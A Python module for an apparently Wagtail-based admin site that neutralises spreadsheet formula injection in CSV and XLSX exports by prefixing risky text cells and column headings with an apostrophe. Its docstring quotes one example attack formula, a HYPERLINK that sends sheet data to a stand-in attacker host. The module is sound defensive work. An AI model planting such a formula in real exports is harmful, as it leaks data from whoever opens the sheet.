"""Spreadsheet exports that cannot run a formula: one rule for every CSV and XLSX file.

A cell whose text begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula, and a formula such as
`=HYPERLINK("https://attacker.example/?"&A1, "Click")` can send the sheet's data away
when the person opening it clicks. Feedback is written by anonymous visitors and exports
are opened by school staff, so every exported text cell that begins that way gets a
leading apostrophe, which spreadsheets show as text (OWASP's advice).

Every spreadsheet export of the admin goes through Wagtail's
`wagtail.admin.views.mixins.SpreadsheetExportMixin`: snippet and model listings (services,
organisations, glossary), Wagtail's reports and the form submissions of
`wagtail.contrib.forms` (parent feedback). Its `preprocess_field_value` turns every data
cell into the value written, in both formats, and `get_heading` every column heading
(form field labels are typed by editors). `install()`, called once when the app registry
is ready, wraps those two methods; views of our own that write CSV themselves (the trust
overview) call `neutralise_formula` directly.
"""

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """The value, with a leading apostrophe if it is text a spreadsheet would run.

    Numbers, dates and empty cells are left alone: a negative number is a number, not a
    formula, and keeps its type in an XLSX file."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return f"'{value}"
    return value


def install():
    """Make every Wagtail spreadsheet export neutralise formulae (idempotent)."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "neutralises_formulae", False):
        return
    preprocess_field_value = SpreadsheetExportMixin.preprocess_field_value
    get_heading = SpreadsheetExportMixin.get_heading

    def safe_preprocess_field_value(self, field, value, export_format):
        return neutralise_formula(preprocess_field_value(self, field, value, export_format))

    def safe_get_heading(self, queryset, field):
        return neutralise_formula(get_heading(self, queryset, field))

    SpreadsheetExportMixin.preprocess_field_value = safe_preprocess_field_value
    SpreadsheetExportMixin.get_heading = safe_get_heading
    SpreadsheetExportMixin.neutralises_formulae = True
